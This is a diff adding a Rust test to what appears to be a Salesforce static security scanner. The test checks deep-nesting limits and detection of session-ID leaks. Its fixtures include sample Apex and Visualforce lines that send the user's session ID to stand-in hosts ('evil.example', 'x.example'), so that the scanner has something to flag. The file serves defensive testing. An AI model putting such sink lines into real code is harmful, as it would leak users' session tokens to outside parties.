@@ -466,3 +466,128 @@ fn the_cache_is_untrusted_input() {
     let mode = std::fs::metadata(&key).expect("key").permissions().mode();
     assert_eq!(mode & 0o077, 0, "{mode:o}");
 }
+
+/// Sources nested past the analysis depth: each is an `analysis-limit` finding where it
+/// passes the limit, and the scan goes on; just under it, the analyses run (and find the
+/// session ID sent out) without overflowing a stack. Each of these aborted the scan before.
+#[test]
+fn deep_nesting_is_a_finding_not_a_stack_overflow() {
+    const SINK: &str =
+        "HttpRequest r = new HttpRequest(); r.setEndpoint('https://evil.example'); r.setBody(s); new Http().send(r);\n";
+    let sources = |n: usize| -> Vec<(String, String)> {
+        let c = "force-app/main/default/classes";
+        vec![
+            (
+                format!("{c}/Ifs.cls"),
+                format!(
+                    "public class Ifs {{\n public void m(Boolean b) {{\n String s = UserInfo.getSessionId();\n{}{SINK}{}}}\n}}\n",
+                    "if (b) {\n".repeat(n / 2),
+                    "}\n".repeat(n / 2)
+                ),
+            ),
+            (
+                format!("{c}/Parens.cls"),
+                format!(
+                    "public class Parens {{\n public void m() {{\n String s = {}UserInfo.getSessionId(){};\n{SINK}}}\n}}\n",
+                    "(".repeat(n),
+                    ")".repeat(n)
+                ),
+            ),
+            (
+                format!("{c}/Plus.cls"),
+                format!(
+                    "public class Plus {{\n public void m() {{\n String s = UserInfo.getSessionId(){};\n{SINK}}}\n}}\n",
+                    " + 'a'".repeat(n)
+                ),
+            ),
+            (
+                format!("{c}/Nested.cls"),
+                format!(
+                    "{}{}",
+                    (0..n / 2)
+                        .map(|i| format!("public class N{i} {{\n"))
+                        .collect::<String>(),
+                    "}\n".repeat(n / 2)
+                ),
+            ),
+            (
+                "force-app/main/default/pages/Braces.page".to_string(),
+                format!(
+                    "<apex:page>\n<script>\nvar s = \"{{!$Api.Session_ID}}\";\n{}fetch(\"https://x.example/?s=\" + s);{}\n</script>\n</apex:page>\n",
+                    "{".repeat(n),
+                    "}".repeat(n)
+                ),
+            ),
+        ]
+    };
+    // Just under the limit (2,000 levels; an `if` and a nested class take two).
+    let under = sources(1_960);
+    let files: Vec<(&str, &[u8])> = under.iter().map(|(p, t)| (p.as_str(), t.as_bytes())).collect();
+    let p = project(&files);
+    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let found = json_findings(&o);
+    let flows: Vec<&str> = found
+        .iter()
+        .filter(|f| f.1 == "session-id-to-external")
+        .map(|f| f.0.as_str())
+        .collect();
+    assert_eq!(
+        flows,
+        [
+            "force-app/main/default/classes/Ifs.cls",
+            "force-app/main/default/classes/Parens.cls",
+            "force-app/main/default/classes/Plus.cls",
+            "force-app/main/default/pages/Braces.page"
+        ],
+        "{found:?}"
+    );
+    assert!(found.iter().all(|f| f.1 != "analysis-limit"), "{found:?}");
+
+    // Far past it: one finding per file, nothing else from them.
+    let over = sources(12_000);
+    let mut files: Vec<(&str, &[u8])> = over.iter().map(|(p, t)| (p.as_str(), t.as_bytes())).collect();
+    let scratch = format!(
+        "{{\"orgName\": \"x\", \"settings\": {}{}}}",
+        "[".repeat(20_000),
+        "]".repeat(20_000)
+    );
+    files.push(("config/project-scratch-def.json", scratch.as_bytes()));
+    let p = project(&files);
+    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let found = json_findings(&o);
+    let apex = "this Apex nests deeper than 2000 levels; the file is not analysed";
+    let script = "this JavaScript nests deeper than 2000 levels; the file is not analysed";
+    let got: Vec<(&str, &str, &str)> = found
+        .iter()
+        .map(|f| (f.0.as_str(), f.1.as_str(), f.2.as_str()))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            (
+                "config/project-scratch-def.json",
+                "invalid-metadata",
+                "malformed JSON: nested deeper than 256 levels"
+            ),
+            ("force-app/main/default/classes/Ifs.cls", "analysis-limit", apex),
+            ("force-app/main/default/classes/Nested.cls", "analysis-limit", apex),
+            ("force-app/main/default/classes/Parens.cls", "analysis-limit", apex),
+            ("force-app/main/default/classes/Plus.cls", "analysis-limit", apex),
+            ("force-app/main/default/pages/Braces.page", "analysis-limit", script),
+        ]
+    );
+
+    // The project file itself: a clear error, exit 2.
+    let p = project(&[]);
+    let deep = format!(
+        "{{\"packageDirectories\": [{{\"path\": \"force-app\"}}], \"x\": {}{}}}",
+        "[".repeat(18_163),
+        "]".repeat(18_163)
+    );
+    std::fs::write(p.path().join("sfdx-project.json"), deep).expect("w");
+    let o = sfsec(p.path(), &["check", "--no-cache"]);
+    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
+    assert!(stderr(&o).contains("sfdx-project.json:1:") && stderr(&o).contains("nested deeper than 256 levels"));
+}
